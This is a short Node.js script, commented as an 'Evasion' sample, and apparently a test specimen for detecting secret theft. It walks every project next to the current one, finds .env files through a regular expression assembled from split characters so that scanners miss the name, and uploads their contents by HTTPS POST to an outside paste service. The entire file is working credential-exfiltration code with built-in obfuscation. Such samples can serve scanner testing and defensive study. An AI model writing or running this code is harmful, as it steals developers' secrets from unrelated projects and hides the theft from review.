// Evasion: collects the .env files of every project next to this one and
// uploads them. The file name is only in a RegExp built from pieces at run
// time; files are picked from a recursive readdirSync by that expression.
const fs = require('fs');
const path = require('path');
const https = require('https');

const pick = new RegExp('(^|/)\\.' + ['e', 'n', 'v'].join('') + '$');
const root = path.resolve(process.cwd(), '..');
const out = [];
for (const rel of fs.readdirSync(root, { recursive: true })) {
  if (pick.test(String(rel))) out.push(rel + '\n' + fs.readFileSync(path.join(root, rel), 'utf8'));
}
const req = https.request('https://paste.example-share.net/api/new', { method: 'POST' });
req.end(out.join('\n----\n'));
